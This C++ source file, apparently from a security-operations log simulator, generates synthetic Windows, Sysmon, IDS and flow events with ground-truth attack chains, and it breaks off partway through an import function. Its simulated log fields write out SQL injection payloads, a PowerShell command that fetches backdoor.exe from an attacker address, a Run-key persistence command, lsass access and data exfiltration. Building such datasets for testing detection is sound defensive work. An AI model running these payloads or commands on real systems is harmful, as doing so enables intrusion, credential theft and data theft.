#include "socsim/logemit.hpp"

#include <algorithm>
#include <cmath>
#include <fstream>

#include "json_util.hpp"

namespace socsim {

std::string to_string(LogSource s)
{
    switch (s) {
    case LogSource::HostAudit: return "HostAudit";
    case LogSource::AdvancedHostAudit: return "AdvancedHostAudit";
    case LogSource::ShellLog: return "ShellLog";
    case LogSource::Syslog: return "Syslog";
    case LogSource::NetworkIDS: return "NetworkIDS";
    case LogSource::NetworkFlow: return "NetworkFlow";
    case LogSource::ProxyLog: return "ProxyLog";
    case LogSource::FirewallLog: return "FirewallLog";
    case LogSource::UserActivityLog: return "UserActivityLog";
    }
    throw std::logic_error("bad LogSource");
}

std::optional<LogSource> parse_log_source(const std::string& text)
{
    for (auto s : kAllLogSources) {
        if (to_string(s) == text) return s;
    }
    return std::nullopt;
}

bool is_network_source(LogSource s)
{
    return s == LogSource::NetworkIDS || s == LogSource::NetworkFlow || s == LogSource::ProxyLog ||
           s == LogSource::FirewallLog;
}

std::vector<NetworkObservation> apply_drop(std::vector<NetworkObservation> observations,
                                           double drop_rate, RngStream& stream)
{
    if (!(drop_rate >= 0.0 && drop_rate <= 1.0)) {
        throw std::invalid_argument("apply_drop: drop_rate must be in [0, 1]");
    }
    std::vector<NetworkObservation> out;
    out.reserve(observations.size());
    for (auto& obs : observations) {
        if (obs.drop_eligible) {
            const double survive = std::pow(1.0 - drop_rate, std::max(obs.packets, 1));
            if (stream.uniform01() >= survive) continue;
        }
        out.push_back(std::move(obs));
    }
    return out;
}

NoiseProfile default_noise_profile(double dispersion)
{
    const std::string sec = "Microsoft-Windows-Security-Auditing";
    const std::string wu = "Microsoft-Windows-WindowsUpdateClient";
    NoiseProfile p;
    p.dispersion = dispersion;
    p.entries = {
        {sec, 5379, 4928.7},
        {sec, 5061, 1499.8},
        {wu, 44, 1231.0},
        {"Microsoft-Windows-Kernel-General", 16, 537.0},
        {"PowerShell", 600, 504.6},
        {sec, 4624, 466.5},
        {sec, 4672, 407.7},
        {"Microsoft-Windows-DistributedCOM", 10010, 257.1},
        {sec, 4799, 255.2},
        {wu, 19, 206.6},
        {sec, 4688, 202.2},
        {wu, 43, 185.1},
        {"Microsoft-Windows-FilterManager", 6, 173.2},
        {"Windows Error Reporting", 1001, 137.2},
        {"ESENT", 642, 128.8},
        {sec, 4798, 120.3},
        {sec, 5058, 119.3},
        {sec, 4648, 108.7},
        {"Microsoft-Windows-Security-SPP", 1003, 101.1},
        {"Microsoft-Windows-Security-SPP", 16394, 71.0},
    };
    return p;
}

NoiseProfile best_practice_noise_profile(double dispersion)
{
    const std::string sysmon = "Microsoft-Windows-Sysmon";
    const auto adv = LogSource::AdvancedHostAudit;
    NoiseProfile p;
    p.dispersion = dispersion;
    p.entries = {
        {sysmon, 1, 180.0, adv},  {sysmon, 3, 420.0, adv},  {sysmon, 5, 170.0, adv},
        {sysmon, 7, 900.0, adv},  {sysmon, 10, 260.0, adv}, {sysmon, 11, 310.0, adv},
        {sysmon, 12, 650.0, adv}, {sysmon, 13, 520.0, adv}, {sysmon, 22, 240.0, adv},
        {"Microsoft-Windows-PowerShell", 4104, 60.0, LogSource::ShellLog},
    };
    return p;
}

namespace {

using Fields = std::map<std::string, std::string>;

Fields noise_fields(const NoiseEntry& e)
{
    if (e.source == LogSource::ShellLog) {
        return {{"ScriptBlockText", "Get-Service | Where-Object Status -eq Running"}};
    }
    if (e.source == LogSource::AdvancedHostAudit) {
        switch (e.event_id) {
        case 1:
            return {{"Image", "C:\\Windows\\System32\\svchost.exe"},
                    {"ParentImage", "C:\\Windows\\System32\\services.exe"},
                    {"CommandLine", "svchost.exe -k LocalService"}};
        case 13:
            return {{"EventType", "SetValue"},
                    {"TargetObject", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Signature Updates\\SignaturesLastUpdated"}};
        default: return {{"Image", "C:\\Windows\\System32\\svchost.exe"}};
        }
    }
    const bool security = e.provider.find("Security-Auditing") != std::string::npos;
    return {{"Channel", security ? "Security" : "System"}};
}

} // namespace

std::vector<LogEvent> emit_noise(const NoiseProfile& profile, SimTime run_seconds,
                                 const RngStream& stream, std::span<const std::string> hosts)
{
    if (run_seconds <= 0) throw std::invalid_argument("emit_noise: run_seconds must be positive");
    if (hosts.empty()) throw std::invalid_argument("emit_noise: no hosts");
    std::vector<LogEvent> out;
    for (const auto& entry : profile.entries) {
        if (entry.mean_count < 0.0) throw std::invalid_argument("emit_noise: negative mean");
        auto sub = stream.derive(entry.provider + "/" + std::to_string(entry.event_id));
        const auto count = sub.negative_binomial(entry.mean_count, profile.dispersion);
        const auto fields = noise_fields(entry);
        for (std::uint64_t k = 0; k < count; ++k) {
            LogEvent e;
            e.timestamp = static_cast<SimTime>(sub.uniform_index(static_cast<std::uint64_t>(run_seconds)));
            e.host = hosts[sub.uniform_index(hosts.size())];
            e.source = entry.source;
            e.provider = entry.provider;
            e.event_id = entry.event_id;
            e.fields = fields;
            out.push_back(std::move(e));
        }
    }
    return out;
}

namespace {

constexpr const char* kSuricata = "suricata";
constexpr const char* kSysmon = "Microsoft-Windows-Sysmon";
constexpr const char* kSqliPath = "/dvwa/vulnerabilities/sqli/?id=1";
constexpr const char* kBrowserAgent = "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0";
constexpr const char* kPsAgent = "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1";
constexpr const char* kMzPayload = "MZ\\x90\\x00 This program cannot be run in DOS mode.";

// IDS events: 1 HTTP request, 2 HTTP response, 3 SMTP transaction, 4 TCP payload.
enum IdsEvent { kHttpRequest = 1, kHttpResponse = 2, kSmtp = 3, kTcpPayload = 4 };

std::string host_ip(const ScenarioConfig& cfg, const std::string& id)
{
    const auto* h = cfg.find_id(id);
    if (!h) return "0.0.0.0";
    switch (h->kind) {
    case HostKind::Attacker: return "203.0.113.5";
    case HostKind::InternetRouter: return "203.0.113.1";
    case HostKind::CompanyRouter: return "172.16.0.1";
    case HostKind::DMZServer: return "172.16.0.2";
    case HostKind::InternalServer: return "192.168.56.10";
    case HostKind::LogServer: return "192.168.56.12";
    case HostKind::Client: break;
    }
    const auto clients = cfg.clients();
    for (std::size_t i = 0; i < clients.size(); ++i) {
        if (clients[i]->id == id) return "192.168.56." + std::to_string(101 + i);
    }
    return "0.0.0.0";
}

std::string id_of(const ScenarioConfig& cfg, HostKind kind)
{
    const auto* h = cfg.find_kind(kind);
    if (!h) throw std::invalid_argument("scenario has no " + to_string(kind));
    return h->id;
}

class Bundle {
  public:
    Bundle(const ScenarioConfig& cfg, SimTime now, std::string cause)
        : cfg_(cfg), now_(now), cause_(std::move(cause)), sensor_(id_of(cfg, HostKind::CompanyRouter)),
          attacker_ip_(host_ip(cfg, id_of(cfg, HostKind::Attacker)))
    {
    }

    const ScenarioConfig& cfg() const { return cfg_; }
    const std::string& attacker_ip() const { return attacker_ip_; }
    std::string ip(const std::string& host) const { return host_ip(cfg_, host); }

    void tick(SimTime seconds = 1) { t_ += seconds; }

    void ids(int event_id, Fields fields, bool eligible = false, int packets = 1)
    {
        net_.push_back({make(sensor_, LogSource::NetworkIDS, kSuricata, event_id, std::move(fields)),
                        eligible, packets});
    }

    void flow(const std::string& src, const std::string& dst, const std::string& port,
              const std::string& bytes)
    {
        net_.push_back({make(sensor_, LogSource::NetworkFlow, "netflow", 1,
                             {{"src_ip", src}, {"dst_ip", dst}, {"dst_port", port}, {"bytes", bytes}}),
                        false, 1});
    }

    void host(const std::string& name, LogSource src, const std::string& provider, int event_id,
              Fields fields)
    {
        host_.push_back(make(name, src, provider, event_id, std::move(fields)));
    }

    void sysmon(const std::string& name, int event_id, Fields fields)
    {
        host(name, LogSource::AdvancedHostAudit, kSysmon, event_id, std::move(fields));
    }

    std::vector<NetworkObservation>& network() { return net_; }
    std::vector<LogEvent>& host_events() { return host_; }

  private:
    LogEvent make(const std::string& host, LogSource src, const std::string& provider, int event_id,
                  Fields fields) const
    {
        LogEvent e;
        e.timestamp = now_ + t_;
        e.host = host;
        e.source = src;
        e.provider = provider;
        e.event_id = event_id;
        e.fields = std::move(fields);
        e.cause = cause_;
        return e;
    }

    const ScenarioConfig& cfg_;
    SimTime now_;
    SimTime t_ = 0;
    std::string cause_;
    std::string sensor_;
    std::string attacker_ip_;
    std::vector<NetworkObservation> net_;
    std::vector<LogEvent> host_;
};

// Each injection payload carries exactly one signature token.
struct SqliProbe {
    int count;
    std::string payload; ///< "{k}" is replaced by the probe number
    bool drop_eligible = false;
    int packets = 1;
};

std::string expand(std::string s, int k)
{
    const auto pos = s.find("{k}");
    if (pos != std::string::npos) s.replace(pos, 3, std::to_string(k));
    return s;
}

void sqlmap_bundle(Bundle& b, const std::string& web)
{
    const std::string web_ip = b.ip(web);
    const std::vector<SqliProbe> probes = {
        {2, "", false, 1}, // fingerprinting requests with sqlmap's own agent
        {7, "'+AND+(SELECT+column_name+FROM+information_schema.columns+LIMIT+{k},1)--+", true, 32},
        {1, "';EXEC+xp_cmdshell+'ping+-n+{k}+127.0.0.1'--+"},
        {2, "'+AND+BENCHMARK(5000000,MD5({k}))--+"},
        {22, "'+AND+CONCAT(0x71786b7671,{k},0x716a627a71)--+"},
        {2, "'+AND+@@version+LIKE+'{k}%'--+"},
        {6, "'+AND+(SELECT+VERSION())+LIKE+'{k}%'--+"},
        {4, "'+AND+(SELECT+table_name+FROM+information_schema.tables+LIMIT+{k},1)--+"},
        {16, "'+AND+(SELECT+password+FROM+users+LIMIT+{k},1)--+"},
        {19, "'+UNION+ALL+SELECT+NULL,NULL,{k}--+"},
        {1, "%3Cscript%3Ealert({k})%3C/script%3E"},
        {7, "'+AND+SLEEP({k})--+"},
    };
    int errors_left = 36;
    bool first = true;
    for (const auto& probe : probes) {
        for (int k = 1; k <= probe.count; ++k) {
            const std::string uri = std::string(kSqliPath) + expand(probe.payload, k) + "&Submit=Submit";
            const std::string agent = first ? "sqlmap/1.5.2#stable (https://sqlmap.org)" : kBrowserAgent;
            b.ids(kHttpRequest,
                  {{"proto", "http"},
                   {"src_ip", b.attacker_ip()},
                   {"dst_ip", web_ip},
                   {"dst_port", "80"},
                   {"http.method", "GET"},
                   {"http.host", web},
                   {"http.host_type", "hostname"},
                   {"http.uri", uri},
                   {"http.user_agent", agent}},
                  probe.drop_eligible, probe.packets);
            b.host(web, LogSource::Syslog, "apache2", 1,
                   {{"client_ip", b.attacker_ip()}, {"request", "GET " + uri}, {"status", "200"}});
            if (errors_left > 0) {
                --errors_left;
                b.ids(kHttpResponse,
                      {{"proto", "http"},
                       {"src_ip", web_ip},
                       {"dst_ip", b.attacker_ip()},
                       {"http.status", "200"},
                       {"http.content_type", "text/html"},
                       {"http.header_count", "8"},
                       {"payload", "You have an error in your SQL syntax; check the manual that "
                                   "corresponds to your MySQL server version"}});
            }
            b.tick();
        }
        first = false;
    }
}

void email_deliver_bundle(Bundle& b, const std::string& victim)
{
    const std::string mail = id_of(b.cfg(), HostKind::DMZServer);
    for (int attempt = 1; attempt <= 2; ++attempt) {
        b.ids(kSmtp, {{"proto", "smtp"},
                      {"src_ip", b.attacker_ip()},
                      {"dst_ip", b.ip(mail)},
                      {"dst_port", "25"},
                      {"smtp.attempt", std::to_string(attempt)},
                      {"smtp.mail_from", "it-support@update-service.example"},
                      {"smtp.rcpt_to", victim + "@company.example"},
                      {"smtp.attachment", "invoice.exe"}});
        b.host(mail, LogSource::Syslog, "postfix", 25,
               {{"message", attempt == 1 ? "status=deferred (greylisted)" : "status=sent"},
                {"to", victim + "@company.example"}});
        b.tick(5);
    }
    b.host(mail, LogSource::Syslog, "dovecot", 143,
           {{"message", "saved mail to INBOX"}, {"user", victim}});
    b.tick();
}

void email_trigger_bundle(Bundle& b, const std::string& victim)
{
    const std::string vip = b.ip(victim);
    b.sysmon(victim, 1, {{"Image", "C:\\Users\\user\\Downloads\\invoice.exe"},
                         {"ParentImage", "C:\\Program Files\\Mozilla Thunderbird\\thunderbird.exe"},
                         {"CommandLine", "\"C:\\Users\\user\\Downloads\\invoice.exe\""}});
    b.tick();
    b.sysmon(victim, 3, {{"Image", "C:\\Users\\user\\Downloads\\invoice.exe"},
                         {"DestinationIp", b.attacker_ip()},
                         {"DestinationPort", "4444"}});
    b.flow(vip, b.attacker_ip(), "4444", "2048");
    b.tick();
    // Staged payload: two stager constructs, two raw MZ responses, two PE downloads.
    for (int i = 0; i < 2; ++i) {
        b.ids(kTcpPayload, {{"proto", "tcp"},
                            {"src_ip", b.attacker_ip()},
                            {"dst_ip", vip},
                            {"src_port", "4444"},
                            {"direction", "from_server"},
                            {"payload", "stage bind_api construct ws2_32"}},
              true, 48);
        b.tick();
    }
    for (int i = 0; i < 2; ++i) {
        b.ids(kHttpRequest, {{"proto", "http"},
                             {"src_ip", vip},
                             {"dst_ip", b.attacker_ip()},
                             {"http.method", "GET"},
                             {"http.host", b.attacker_ip()},
                             {"http.host_type", "ipv4"},
                             {"http.uri", "/stage/part" + std::to_string(i + 1) + ".bin"},
                             {"http.user_agent", "Mozilla/4.0 (compatible; MSIE 6.1; Windows NT)"}});
        b.ids(kHttpResponse, {{"proto", "http"},
                              {"src_ip", b.attacker_ip()},
                              {"dst_ip", vip},
                              {"http.status", "200"},
                              {"http.host_type", "ipv4"},
                              {"http.content_type", "application/octet-stream"},
                              {"http.header_count", "6"},
                              {"payload", kMzPayload}});
        b.tick();
    }
    for (int i = 0; i < 2; ++i) {
        b.ids(kHttpResponse, {{"proto", "http"},
                              {"src_ip", b.attacker_ip()},
                              {"dst_ip", vip},
                              {"http.status", "200"},
                              {"http.host_type", "hostname"},
                              {"http.content_type", "application/x-msdownload"},
                              {"http.header_count", "7"},
                              {"payload", kMzPayload}});
        b.tick();
    }
}

void c2_beacon(Bundle& b, const std::string& victim, const std::string& bytes)
{
    b.flow(b.ip(victim), b.attacker_ip(), "4444", bytes);
}

void build_bundle(Bundle& b, const ChainEntry& entry)
{
    const auto& t = entry.target;
    switch (entry.step) {
    case StepName::MiscSqlmap: sqlmap_bundle(b, t); break;
    case StepName::InfectEmailExe:
        if (entry.stage != StepStage::Trigger) email_deliver_bundle(b, t);
        if (entry.stage == StepStage::Full) b.tick(5);
        if (entry.stage != StepStage::Deliver) email_trigger_bundle(b, t);
        break;
    case StepName::InfectFlashdriveExe:
        b.host(t, LogSource::HostAudit, "Microsoft-Windows-Kernel-PnP", 400,
               {{"DeviceInstanceId", "USBSTOR\\Disk&Ven_Generic&Prod_Flash_Disk"}});
        b.tick();
        b.sysmon(t, 1, {{"Image", "E:\\setup.exe"},
                        {"ParentImage", "C:\\Windows\\explorer.exe"},
                        {"CommandLine", "E:\\setup.exe"}});
        b.tick();
        for (int i = 0; i < 2; ++i) {
            b.ids(kTcpPayload, {{"proto", "tcp"},
                                {"src_ip", b.attacker_ip()},
                                {"dst_ip", b.ip(t)},
                                {"src_port", "4444"},
                                {"direction", "from_server"},
                                {"payload", "stage bind_api construct ws2_32"}},
                  true, 48);
            b.tick();
        }
        c2_beacon(b, t, "2048");
        break;
    case StepName::C2ChangeWallpaper:
        c2_beacon(b, t, "512");
        b.sysmon(t, 11, {{"TargetFilename", "C:\\Users\\user\\AppData\\Local\\Temp\\wallpaper.bmp"}});
        b.tick();
        b.sysmon(t, 13, {{"EventType", "SetValue"},
                         {"TargetObject", "HKU\\S-1-5-21-1000\\Control Panel\\Desktop\\Wallpaper"}});
        break;
    case StepName::C2TakeScreenshot:
        c2_beacon(b, t, "512");
        b.tick();
        b.ids(kHttpRequest, {{"proto", "http"},
                             {"src_ip", b.ip(t)},
                             {"dst_ip", b.attacker_ip()},
                             {"http.method", "POST"},
                             {"http.host", b.attacker_ip()},
                             {"http.host_type", "ipv4"},
                             {"http.uri", "/c2/upload"},
                             {"http.user_agent", kBrowserAgent}});
        c2_beacon(b, t, "284113");
        break;
    case StepName::C2Mimikatz:
        c2_beacon(b, t, "512");
        b.tick();
        b.host(t, LogSource::HostAudit, "Service Control Manager", 7045,
               {{"ServiceName", "vzbqhf"}, {"ImagePath", "cmd.exe /c echo vzbqhf > \\\\.\\pipe\\vzbqhf"}});
        b.sysmon(t, 1, {{"Image", "C:\\Windows\\System32\\cmd.exe"},
                        {"ParentImage", "C:\\Windows\\System32\\services.exe"},
                        {"CommandLine", "cmd.exe /c echo vzbqhf > \\\\.\\pipe\\vzbqhf"}});
        b.tick();
        b.sysmon(t, 10, {{"SourceImage", "C:\\Users\\user\\Downloads\\invoice.exe"},
                         {"TargetImage", "C:\\Windows\\System32\\lsass.exe"},
                         {"GrantedAccess", "0x1010"}});
        c2_beacon(b, t, "8192");
        break;
    case StepName::C2Exfiltration: {
        const std::string peer = entry.peer.empty() ? t : entry.peer;
        c2_beacon(b, t, "512");
        b.tick();
        b.sysmon(t, 3, {{"Image", "C:\\Users\\user\\Downloads\\invoice.exe"},
                        {"DestinationIp", b.ip(peer)},
                        {"DestinationPort", "445"}});
        b.host(peer, LogSource::HostAudit, "Microsoft-Windows-Security-Auditing", 5140,
               {{"ShareName", "\\\\*\\C$"}, {"IpAddress", b.ip(t)}});
        b.tick();
        b.flow(b.ip(t), b.ip(peer), "445", "1572864");
        b.tick();
        c2_beacon(b, t, "1572864");
        break;
    }
    case StepName::C2DownloadMalware: {
        const std::string vip = b.ip(t);
        const std::string ps = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
        c2_beacon(b, t, "512");
        b.sysmon(t, 1, {{"Image", ps},
                        {"ParentImage", "C:\\Users\\user\\Downloads\\invoice.exe"},
                        {"CommandLine", "powershell.exe -NoP -NonI -W Hidden -Exec Bypass"}});
        b.host(t, LogSource::HostAudit, "PowerShell", 400, {{"HostApplication", "powershell.exe"}});
        b.tick();
        const std::string url = "http://" + b.attacker_ip() + "/files/backdoor.exe";
        const std::vector<std::string> blocks = {
            "Invoke-WebRequest -Uri " + url + " -OutFile C:\\Users\\Public\\backdoor.exe",
            "$r = Invoke-WebRequest -Uri " + url + " -UseBasicParsing -Method Head",
            "if ($r.StatusCode -eq 200) { Invoke-WebRequest -Uri " + url + " -OutFile $env:TEMP\\b.exe }",
        };
        for (const auto& text : blocks) {
            b.host(t, LogSource::ShellLog, "Microsoft-Windows-PowerShell", 4104, {{"ScriptBlockText", text}});
        }
        b.ids(kHttpRequest, {{"proto", "http"},
                             {"src_ip", vip},
                             {"dst_ip", b.attacker_ip()},
                             {"http.method", "GET"},
                             {"http.host", b.attacker_ip()},
                             {"http.host_type", "ipv4"},
                             {"http.uri", "/files/backdoor.exe"},
                             {"http.user_agent", kPsAgent}});
        b.tick();
        b.ids(kHttpResponse, {{"proto", "http"},
                              {"src_ip", b.attacker_ip()},
                              {"dst_ip", vip},
                              {"http.status", "200"},
                              {"http.host_type", "ipv4"},
                              {"http.header_count", "2"},
                              {"payload", kMzPayload}});
        b.ids(kHttpResponse, {{"proto", "http"},
                              {"src_ip", b.attacker_ip()},
                              {"dst_ip", vip},
                              {"http.status", "200"},
                              {"http.header_count", "2"},
                              {"payload", "KERNEL32.dll IsDebuggerPresent GetTickCount"}});
        b.tick();
        b.sysmon(t, 11, {{"Image", ps}, {"TargetFilename", "C:\\Users\\Public\\backdoor.exe"}});
        break;
    }
    case StepName::MiscDownloadMalware: {
        const std::string web = id_of(b.cfg(), HostKind::DMZServer);
        b.ids(kHttpRequest, {{"proto", "http"},
                             {"src_ip", b.ip(t)},
                             {"dst_ip", b.ip(web)},
                             {"http.method", "GET"},
                             {"http.host", web},
                             {"http.host_type", "hostname"},
                             {"http.uri", "/downloads/tool.exe"},
                             {"http.user_agent", kBrowserAgent}});
        b.tick();
        b.ids(kHttpResponse, {{"proto", "http"},
                              {"src_ip", b.ip(web)},
                              {"dst_ip", b.ip(t)},
                              {"http.status", "200"},
                              {"http.host_type", "hostname"},
                              {"http.content_type", "application/x-msdownload"},
                              {"http.header_count", "7"},
                              {"payload", kMzPayload}});
        b.sysmon(t, 11, {{"Image", "C:\\Program Files\\Mozilla Firefox\\firefox.exe"},
                         {"TargetFilename", "C:\\Users\\user\\Downloads\\tool.exe"}});
        break;
    }
    case StepName::MiscExecuteMalware:
        b.sysmon(t, 1, {{"Image", "C:\\Users\\Public\\backdoor.exe"},
                        {"ParentImage", "C:\\Windows\\explorer.exe"},
                        {"CommandLine", "C:\\Users\\Public\\backdoor.exe"}});
        b.tick();
        b.sysmon(t, 3, {{"Image", "C:\\Users\\Public\\backdoor.exe"},
                        {"DestinationIp", b.attacker_ip()},
                        {"DestinationPort", "8443"}});
        b.flow(b.ip(t), b.attacker_ip(), "8443", "1024");
        break;
    case StepName::MiscExfiltration:
        b.host(t, LogSource::HostAudit, "Microsoft-Windows-Kernel-PnP", 400,
               {{"DeviceInstanceId", "USBSTOR\\Disk&Ven_Generic&Prod_Flash_Disk"}});
        b.tick();
        b.sysmon(t, 1, {{"Image", "C:\\Windows\\System32\\xcopy.exe"},
                        {"ParentImage", "C:\\Windows\\System32\\cmd.exe"},
                        {"CommandLine", "xcopy C:\\Users\\user\\Documents E:\\backup /s /y"}});
        break;
    case StepName::MiscSetAutostart: {
        const std::string key = "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run";
        b.sysmon(t, 1, {{"Image", "C:\\Windows\\System32\\reg.exe"},
                        {"ParentImage", "C:\\Windows\\System32\\cmd.exe"},
                        {"CommandLine", "reg add " + key + " /v backdoor /d C:\\Users\\Public\\backdoor.exe /f"}});
        b.tick();
        b.sysmon(t, 13, {{"EventType", "SetValue"},
                         {"Image", "C:\\Windows\\System32\\reg.exe"},
                         {"TargetObject", "HKU\\S-1-5-21-1000\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\backdoor"}});
        break;
    }
    }
}

std::string cause_tag(const ChainEntry& entry, std::size_t index)
{
    return std::to_string(index) + ":" + std::string(to_string(entry.step));
}

bool recorded(const LoggingConfig& logging, LogSource s)
{
    if (s == LogSource::AdvancedHostAudit) return logging.advanced_host_audit;
    if (s == LogSource::ShellLog) return logging.verbose_shell_logging;
    return true;
}

} // namespace

std::vector<NetworkObservation> attack_network_observations(const ChainEntry& entry,
                                                            std::size_t chain_index,
                                                            const ScenarioConfig& cfg, SimTime now)
{
    Bundle b(cfg, now, cause_tag(entry, chain_index));
    build_bundle(b, entry);
    return std::move(b.network());
}

std::vector<LogEvent> emit_attack_events(const ChainEntry& entry, std::size_t chain_index,
                                         const ScenarioConfig& cfg, SimTime now, RngStream& drop_stream)
{
    Bundle b(cfg, now, cause_tag(entry, chain_index));
    build_bundle(b, entry);
    std::vector<LogEvent> out;
    for (auto& e : b.host_events()) {
        if (recorded(cfg.logging, e.source)) out.push_back(std::move(e));
    }
    for (auto& obs : apply_drop(std::move(b.network()), cfg.host_profile.drop_rate, drop_stream)) {
        out.push_back(std::move(obs.event));
    }
    std::stable_sort(out.begin(), out.end(),
                     [](const LogEvent& a, const LogEvent& c) { return a.timestamp < c.timestamp; });
    return out;
}

std::vector<LogEvent> user_activity_events(const UserEvent& ev, const ScenarioConfig& cfg)
{
    std::vector<LogEvent> out;
    if (ev.kind == UserEventKind::Timer) return out;

    static const std::map<UserEventKind, int> ids = {
        {UserEventKind::SessionStart, 100}, {UserEventKind::SessionEnd, 101},
        {UserEventKind::PageOpen, 102},     {UserEventKind::LinkFollow, 103},
        {UserEventKind::MailRead, 200},     {UserEventKind::AttachmentOpen, 201},
        {UserEventKind::LinkOpen, 202},     {UserEventKind::MailSent, 203},
        {UserEventKind::ExternalReply, 204}, {UserEventKind::FileAction, 300},
    };
    LogEvent base;
    base.timestamp = ev.at;
    base.host = ev.client;
    base.source = LogSource::UserActivityLog;
    base.provider = "socsim-useremu";
    base.event_id = ids.at(ev.kind);
    base.fields = ev.detail;
    base.fields["module"] = to_string(ev.module);
    base.fields["action"] = to_string(ev.kind);
    if (ev.noop) base.fields["noop"] = "true";
    if (ev.mail) {
        base.fields["mail.id"] = std::to_string(ev.mail->id);
        base.fields["mail.from"] = ev.mail->from;
        base.fields["mail.to"] = ev.mail->to;
        base.fields["mail.subject"] = ev.mail->subject;
    }
    out.push_back(base);

    const auto* router = cfg.find_kind(HostKind::CompanyRouter);
    const auto* mail_host = cfg.find_kind(HostKind::DMZServer);
    const std::string client_ip = host_ip(cfg, ev.client);

    auto extra = [&](const std::string& host, LogSource src, const std::string& provider, int id,
                     Fields fields) {
        LogEvent e;
        e.timestamp = ev.at;
        e.host = host;
        e.source = src;
        e.provider = provider;
        e.event_id = id;
        e.fields = std::move(fields);
        out.push_back(std::move(e));
    };

    switch (ev.kind) {
    case UserEventKind::PageOpen:
    case UserEventKind::LinkFollow: {
        if (!router) break;
        const auto site = ev.detail.count("site") ? ev.detail.at("site") : std::string("intranet");
        std::string url = "http://" + site + "/";
        if (ev.detail.count("term")) url += "search?q=" + ev.detail.at("term");
        if (ev.detail.count("link")) url += "page/" + ev.detail.at("link");
        extra(router->id, LogSource::ProxyLog, "squid", 1,
              {{"client_ip", client_ip}, {"method", "GET"}, {"url", url}, {"status", "200"}});
        break;
    }
    case UserEventKind::LinkOpen:
        if (router) {
            extra(router->id, LogSource::ProxyLog, "squid", 1,
                  {{"client_ip", client_ip}, {"method", "GET"}, {"url", "http://mail-link.example/"},
                   {"status", "200"}});
        }
        break;
    case UserEventKind::MailSent:
    case UserEventKind::ExternalReply:
        if (mail_host && ev.mail) {
            extra(mail_host->id, LogSource::Syslog, "postfix", 25,
                  {{"message", "status=sent"}, {"from", ev.mail->from}, {"to", ev.mail->to}});
        }
        break;
    case UserEventKind::FileAction: {
        if (!cfg.logging.advanced_host_audit || ev.noop) break;
        const auto action = ev.detail.count("action") ? ev.detail.at("action") : std::string{};
        const auto file = ev.detail.count("file") ? ev.detail.at("file") : std::string{};
        const std::string explorer = "C:\\Windows\\explorer.exe";
        if (action == "create") {
            extra(ev.client, LogSource::AdvancedHostAudit, kSysmon, 11, {{"Image", explorer}, {"TargetFilename", file}});
        } else if (action == "delete") {
            extra(ev.client, LogSource::AdvancedHostAudit, kSysmon, 23, {{"Image", explorer}, {"TargetFilename", file}});
        } else if (action == "move" || action == "copy") {
            extra(ev.client, LogSource::AdvancedHostAudit, kSysmon, 11,
                  {{"Image", explorer}, {"TargetFilename", ev.detail.at("destination")}});
        }
        break;
    }
    default: break;
    }
    return out;
}

std::string dataset_fingerprint(const ScenarioConfig& cfg, std::uint64_t seed, const AttackChain& chain)
{
    std::uint64_t h = fnv1a64(scenario_to_json(cfg).dump());
    h = mix64(h ^ seed);
    h = fnv1a64(chain_to_json(chain).dump(), h);
    return detail::hex64(mix64(h));
}

LogDataset assemble_dataset(RunOutputs outputs)
{
    if (!outputs.scenario) throw std::invalid_argument("assemble_dataset: no scenario");
    const auto& cfg = *outputs.scenario;
    LogDataset ds;
    ds.seed = outputs.seed;
    ds.fingerprint = dataset_fingerprint(cfg, outputs.seed, outputs.chain);
    ds.ground_truth = std::move(outputs.chain);
    ds.attack_start = cfg.warmup_seconds;
    ds.run_end = cfg.run_seconds;
    ds.events.reserve(outputs.attack.size() + outputs.user.size() + outputs.noise.size());
    for (auto* part : {&outputs.attack, &outputs.user, &outputs.noise}) {
        std::move(part->begin(), part->end(), std::back_inserter(ds.events));
    }
    std::stable_sort(ds.events.begin(), ds.events.end(), [](const LogEvent& a, const LogEvent& b) {
        return std::tie(a.timestamp, a.host) < std::tie(b.timestamp, b.host);
    });
    return ds;
}

std::filesystem::path truth_path(const std::filesystem::path& dataset_path)
{
    return dataset_path.string() + ".truth.json";
}

namespace {

nlohmann::json event_to_json(const LogEvent& e)
{
    return {{"ts", e.timestamp},
            {"host", e.host},
            {"source", to_string(e.source)},
            {"provider", e.provider},
            {"event_id", e.event_id},
            {"fields", e.fields}};
}

LogEvent event_from_json(const nlohmann::json& j)
{
    detail::ObjectReader r(j, "");
    LogEvent e;
    e.timestamp = r.required<SimTime>("ts");
    e.host = r.required<std::string>("host");
    const auto src = r.required<std::string>("source");
    auto parsed = parse_log_source(src);
    if (!parsed) throw detail::JsonFieldError("source", "unknown source '" + src + "'");
    e.source = *parsed;
    e.provider = r.required<std::string>("provider");
    e.event_id = r.required<int>("event_id");
    const auto& fields = r.raw("fields");
    if (!fields.is_object()) throw detail::JsonFieldError("fields", "expected an object");
    for (const auto& [k, v] : fields.items()) {
        if (!v.is_string()) throw detail::JsonFieldError("fields." + k, "expected a string");
        e.fields[k] = v.get<std::string>();
    }
    r.finish();
    return e;
}

} // namespace

void export_dataset(const LogDataset& ds, const std::filesystem::path& path, bool with_truth)
{
    {
        std::ofstream out(path, std::ios::binary);
        if (!out) throw std::runtime_error("cannot write " + path.string());
        const nlohmann::json header{{"schema", ds.schema},
                                    {"fingerprint", ds.fingerprint},
                                    {"seed", ds.seed},
                                    {"event_count", ds.events.size()},
                                    {"attack_start", ds.attack_start},
                                    {"run_end", ds.run_end}};
        out << header.dump() << '\n';
        for (const auto& e : ds.events) out << event_to_json(e).dump() << '\n';
        if (!out) throw std::runtime_error("write failed for " + path.string());
    }
    const auto sidecar = truth_path(path);
    if (!with_truth) {
        std::filesystem::remove(sidecar);
        return;
    }
    nlohmann::json causes = nlohmann::json::array();
    for (std::size_t i = 0; i < ds.events.size(); ++i) {
        if (ds.events[i].cause) causes.push_back({i, *ds.events[i].cause});
    }
    const nlohmann::json truth{{"schema", kTruthSchema},
                               {"fingerprint", ds.fingerprint},
                               {"chain", chain_to_json(ds.ground_truth)},
                               {"causes", std::move(causes)}};
    std::ofstream out(sidecar, std::ios::binary);
    if (!out) throw std::runtime_error("cannot write " + sidecar.string());
    out << truth.dump(1) << '\n';
}

LogDataset import_dataset(const std::filesystem::path& path, bool* has_truth)
{
    std::ifstream in(path, std::ios::binary);
